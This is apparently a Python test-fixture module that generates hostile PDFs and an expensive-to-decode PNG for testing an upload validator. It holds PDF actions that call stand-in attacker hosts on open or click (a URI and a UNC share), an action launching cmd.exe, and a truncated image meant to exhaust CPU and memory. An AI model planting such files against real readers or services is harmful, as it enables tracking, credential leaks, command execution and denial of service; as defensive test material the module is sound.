"""Hostile files: PDFs that crash a parser or run an action when opened or clicked, and
an image that is cheap to send and expensive to decode."""

from __future__ import annotations

import io
import random
from functools import lru_cache

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.corpus import _pdf, card

PADDING = 12 * 1024  # the smallest accepted file is 10 KiB


def _object_stream_pdf(filter_name: str) -> bytes:
    """A 12 KB PDF whose catalog, pages and page live in an object stream compressed
    with `filter_name` (unknown to pypdf, or JBIG2): reading its root decodes it."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    offsets, body = [], b""
    for obj in inner:
        offsets.append(len(body))
        body += obj + b"\n"
    header = b" ".join(
        b"%d %d" % (number, offset) for number, offset in zip((1, 2, 3), offsets, strict=True)
    )
    header += b"\n"
    stream = header + body
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    positions: dict[int, int] = {}
    positions[4] = out.tell()
    padding = bytes(random.Random(13).randbytes(PADDING))
    out.write(
        b"4 0 obj\n<< /Length %d >>\nstream\n" % len(padding) + padding + b"\nendstream\nendobj\n"
    )
    positions[5] = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /%s /Length %d >>\nstream\n"
        % (len(header), filter_name.encode(), len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    positions[6] = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for index in range(3):  # objects 1 to 3: in object stream 5
        rows.append(b"\x02" + (5).to_bytes(4, "big") + index.to_bytes(2, "big"))
    for number in (4, 5, 6):
        rows.append(b"\x01" + positions[number].to_bytes(4, "big") + (0).to_bytes(2, "big"))
    xref = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(xref)
        + xref
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % positions[6])
    return out.getvalue()


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        action[NameObject(f"/{key}")] = value
    return action


@lru_cache(maxsize=1)
def _scan() -> bytes:
    return _pdf(card(seed=21))


def _with(change: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(_scan()))
    root, page = writer.root_object, writer.pages[0]
    uri = _action("URI", URI="https://collecte.attaquant.example/ouvert")
    if change == "open_uri":
        root[NameObject("/OpenAction")] = uri
    elif change == "open_gotor_unc":
        root[NameObject("/OpenAction")] = _action(
            "GoToR",
            F="\\\\partage.attaquant.example\\piege\\cni.pdf",
            D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
        )
    elif change == "open_launch":
        root[NameObject("/OpenAction")] = _action("Launch", F="C:\\Windows\\System32\\cmd.exe")
    elif change == "open_named":
        root[NameObject("/OpenAction")] = _action("Named", N="/Print")
    elif change == "open_gotoe":
        root[NameObject("/OpenAction")] = _action("GoToE", NewWindow=NameObject("/true"))
    elif change == "page_aa_uri":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): uri})
    elif change == "document_aa":
        root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): uri})
    elif change == "link_uri":
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 600, 800)]),
            NameObject("/A"): uri,
        })  # fmt: skip
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif change == "acroform":
        field = DictionaryObject({
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("nom"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 20)]),
        })  # fmt: skip
        root[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
        )
    else:
        raise ValueError(change)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def hostile_pdf(name: str) -> bytes:
    if name == "filter_unknown":
        return _object_stream_pdf("FooDecode")
    if name == "filter_jbig2":
        return _object_stream_pdf("JBIG2Decode")
    return _with(name)


HOSTILE_PDFS = [
    "filter_unknown",
    "filter_jbig2",
    "open_uri",
    "open_gotor_unc",
    "open_launch",
    "open_named",
    "open_gotoe",
    "page_aa_uri",
    "document_aa",
    "link_uri",
    "acroform",
]


@lru_cache(maxsize=1)
def expensive_png() -> bytes:
    """About 39.6 million pixels in some 160 KB: seconds of CPU and hundreds of MB to
    decode. Its last bytes are cut, so that it is refused after the decoding, and the
    sender can send it again and again."""
    image = Image.new("RGB", (7700, 5140))
    image.paste(Image.frombytes("RGB", (170, 170), random.Random(5).randbytes(170 * 170 * 3)))
    output = io.BytesIO()
    image.save(output, "PNG", compress_level=9)
    data = output.getvalue()
    return data[: len(data) - 3000]
